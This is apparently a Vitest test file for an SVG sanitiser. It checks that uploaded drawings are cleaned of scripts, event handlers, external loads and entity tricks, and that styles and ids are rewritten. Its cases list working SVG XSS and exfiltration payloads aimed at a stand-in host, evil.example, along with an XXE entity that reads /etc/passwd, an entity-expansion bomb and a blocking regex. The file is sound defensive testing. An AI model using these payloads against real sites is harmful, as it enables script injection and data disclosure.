import { expect, test } from "vitest";
import dish from "../examples/dish.svg?raw";
import station from "../examples/station.svg?raw";
import { buildDrawing } from "../src/build";
import { DrawingError, LIMITS, readDrawing, textOfFile } from "../src/drawing";

const svg = (inside: string, attributes = ""): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${inside}</svg>`;
const built = (text: string): string => buildDrawing(readDrawing(text), "p-", false).svg.outerHTML;
const KEPT = '<rect id="ok" width="1" height="1"/>';

/** What must not be in the page, however it is hidden. */
const FORBIDDEN =
  /script|foreignObject|iframe|onload|onclick|javascript:|https?:\/\/(?!www\.w3\.org)|data:(?!image\/(png|jpeg|gif|webp))|@import|<animate|<set|<style|style=|expression|xlink|<!ENTITY|file:/i;

test.each<[string, string]>([
  ["a script", "<script>alert(1)</script>"],
  ["a script of the SVG's own name", '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'],
  ["a script of another namespace", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  ["a script in letters of another case", "<SCRIPT>alert(1)</SCRIPT>"],
  ["a script within data", "<desc><![CDATA[<script>alert(1)</script>]]></desc>"],
  ["a script that is loaded", '<script xlink:href="https://evil.example/x.js"/>'],
  ["an event handler", '<rect onclick="alert(1)" onload="alert(2)"/>'],
  ["an event handler in capitals", '<rect ONCLICK="alert(1)"/>'],
  [
    "foreign content",
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>',
  ],
  ["an animation that loads", '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'],
  ["an attribute that is set later", '<set attributeName="onmouseover" to="alert(1)"/>'],
  ["a link", '<a href="javascript:alert(1)"><text>x</text></a>'],
  ["a link with letters between", '<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>'],
  ["a picture from elsewhere", '<image href="https://evil.example/pixel.png" width="1" height="1"/>'],
  ["a picture that is a drawing", '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>'],
  ["a picture that is a page", '<image href="data:text/html,hello" width="1" height="1"/>'],
  ["a use of another file", '<use href="https://evil.example/x.svg#a"/><use xlink:href="/admin.svg#a"/>'],
  ["a use of data", '<use href="data:image/svg+xml,x#a"/>'],
  ["a paint from elsewhere", '<rect fill="url(https://evil.example/#a)"/>'],
  ["a paint hidden by an escape", '<rect fill="u\\72l(https://evil.example/#a)"/>'],
  ["a paint hidden by an entity", '<rect fill="&#117;rl(https://evil.example/#a)"/>'],
  ["a filter from elsewhere", '<rect filter="url(//evil.example/f#a)"/>'],
  ["a style that imports", "<style>@import url(https://evil.example/x.css); rect{fill:red}</style>"],
  ["a style with a picture", "<style>rect{fill:url(https://evil.example/x)}</style>"],
  ["a style with a font", "<style>@font-face{font-family:x;src:url(https://evil.example/x)} rect{fill:red}</style>"],
  ["a style that reads attributes", '<style>rect[id^="a"]{fill:url(https://evil.example/a)}</style>'],
  ["a style of an element", '<rect style="fill:url(https://evil.example/x);background:url(https://evil.example/y)"/>'],
  ["a style that runs", '<rect style="fill:expression(alert(1))"/>'],
  ["a style within a comment", "<style><!-- @import 'https://evil.example/x.css'; --></style>"],
  ["a set of pictures", '<rect fill="image-set(https://evil.example/x)"/>'],
  ["a cursor", '<rect cursor="url(https://evil.example/x), auto" style="cursor:url(https://evil.example/x)"/>'],
  ["a style sheet beside the drawing", '<?xml-stylesheet href="https://evil.example/x.css"?>'],
  ["a picture of a filter", '<filter id="f"><feImage href="https://evil.example/x"/></filter>'],
  ["a base", '<g xml:base="https://evil.example/"><rect/></g>'],
  [
    "media",
    '<video src="https://evil.example/x"/><audio src="https://evil.example/x"/><iframe src="https://evil.example"/>',
  ],
  [
    "a handler of XML events",
    '<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">alert(1)</handler>',
  ],
  ["a listener", '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="click" handler="#x"/>'],
])("%s is left out, and the rest is shown", (_, hostile) => {
  const text = built(svg(`${KEPT}${hostile}`));
  expect(text).not.toMatch(FORBIDDEN);
  expect(text).toContain('id="p-ok"');
});

test.each<[string, string, RegExp]>([
  [
    "entities that grow",
    `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>${svg("<text>&b;</text>")}`,
    /line 1/i,
  ],
  [
    "an entity of a file",
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
    /line 1/i,
  ],
  ["a use of itself", svg('<g id="a"><use href="#a"/></g>'), /#a uses itself/],
  ["a use of one another", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), /uses itself/],
  ["a pattern of itself", svg('<pattern id="p"><rect fill="url(#p)"/></pattern>'), /uses itself/],
  [
    "uses that grow",
    svg(
      '<g id="a0"><rect/></g>' +
        Array.from({ length: 20 }, (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`).join(""),
    ),
    /once each <use> is written out; #a\d+ alone/,
  ],
  ["too deep", svg("<g>".repeat(200) + "</g>".repeat(200)), /within each other/],
  ["too many", svg("<g/>".repeat(LIMITS.elements + 1)), /at most 20,000 elements/],
  ["too large", svg(`<desc>${"x".repeat(LIMITS.bytes)}</desc>`), /at most 1024 KiB; this one has 1025 KiB/],
  ["not closed", "<svg>\n  <g>\n    <rect>\n  </g>\n</svg>", /^Line 4, column \d+: /],
  ["no XML", "hello", /^Line 1, column 1: /],
  ["another kind", "<html/>", /^Line 1, column 1: expected <svg> as the outermost element; got <html>$/],
  ["a doubtful ampersand", svg("\n<text>A & B</text>"), /^Line 2, /],
])("%s is refused, and it is said why", (_, text, message) => {
  expect(() => readDrawing(text)).toThrow(DrawingError);
  expect(() => readDrawing(text)).toThrow(message);
});

test("what was left out is told of, each once", () => {
  const { removed } = readDrawing(svg("<script/><script/><rect onclick='x'/><a href='https://x.example'/><metadata/>"));
  expect(removed).toEqual(["<script> (2 times)", "onclick=…", "link https://x.example"]);
});

test("styles become attributes, the weightier later, and those of an element last", () => {
  const text = built(
    svg(
      `<style>.a,#b.a{stroke:blue} rect{fill:red;stroke:red} #b{fill:green!important} g .in{opacity:.5}</style>
       <rect id="b" class="a" style="fill-opacity:0.5;stroke-width:2"/><g><g><rect class="in"/></g></g><rect class="in"/>`,
    ),
  );
  expect(text).toMatch(/<rect[^>]*fill="green"[^>]*>/);
  expect(/<rect[^>]*id="p-b"[^>]*>/.exec(text)?.[0]).toMatch(/stroke="blue".*fill-opacity="0.5".*stroke-width="2"/);
  expect(text.match(/opacity="\.5"/g)).toHaveLength(1);
});

test("ids have a prefix, and what refers to them follows", () => {
  const text = built(svg('<linearGradient id="g"/><rect id="r" fill="url(\'#g\')"/><use xlink:href="#r"/>'));
  expect(text).toContain('fill="url(#p-g)"');
  expect(text).toContain('href="#p-r"');
});

test("black and white follow the theme, if wanted", () => {
  const read = readDrawing(svg('<rect id="a" fill="#000" stroke="#FFFFFF"/><rect id="b" fill="#123456"/>'));
  const text = buildDrawing(read, "", true).svg.outerHTML;
  expect(text).toContain('fill="currentColor" stroke="var(--surface-panel)"');
  expect(text).toContain("#123456");
});

test("parts are known by title, label or id, and whether they last", () => {
  const { parts } = readDrawing(
    svg(
      '<g id="one"><title>First</title><rect/></g><g id="two" inkscape:label="Second" xmlns:inkscape="x"/><g id="two"/><defs><g id="hidden"/></defs>',
    ),
  );
  const shown = parts.map(({ key, name, lasting }) => [key, name, lasting]);
  expect(shown.slice(0, 4)).toEqual([
    ["one", "First", true],
    ["@0.0.1", "rect @0.0.1", false],
    ["two", "Second", true],
    ["@0.2", "g @0.2", false],
  ]);
});

test("a file of Illustrator, whose namespaces are entities, is read", () => {
  const text =
    '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;" width="20px" height="10px"><g id="a"/></svg>';
  expect(readDrawing(text).viewBox).toEqual([0, 0, 20, 10]);
});

test("a file is read as the settings keep it; what is none is told", () => {
  const data = `data:image/svg+xml;base64,${btoa("<svg/>")}`;
  expect(textOfFile({ name: "a.svg", data })).toBe("<svg/>");
  expect(textOfFile({ name: "a.svg", data: "data:image/svg+xml,%3Csvg/%3E" })).toBe("<svg/>");
  expect(() => textOfFile({ name: "a.svgz", data: `data:x;base64,${btoa("\x1f\x8b\x08")}` })).toThrow(
    /a.svgz is compressed/,
  );
  expect(() => textOfFile({ name: "a.png", data: `data:x;base64,${btoa("\x89PNG\xff")}` })).toThrow(
    /a.png holds something else/,
  );
  expect(() => textOfFile("x")).toThrow(/choose the drawing again/);
});

test.each([
  ["dish", dish],
  ["station", station],
])("the sample drawing of a %s loses nothing", (_, text) => {
  expect(readDrawing(text).removed).toEqual([]);
});
